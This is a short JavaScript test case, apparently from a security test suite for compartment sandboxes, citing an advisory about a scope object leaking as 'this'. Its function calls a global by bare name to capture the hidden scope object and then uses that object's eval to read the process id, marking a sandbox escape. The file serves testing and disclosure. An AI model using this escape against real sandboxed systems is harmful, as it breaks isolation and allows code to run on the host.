// Calls a global function by its bare name, so that the object that stands for the scope becomes its this.
// Class: compartment
// Advisory: endojs/endo#904 (the scope object leaks as this)
// Win: the id holds what the scope object hides.
// Control: with
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  globalThis.readScope = function () {
    return this;
  };
  const scope = readScope();
  if (scope !== undefined && scope !== globalThis) {
    options.responseData[0].id = 'ESCAPED:' + (scope.eval ? scope.eval('process.pid') : 'scope');
  }
  return options.responseData;
}
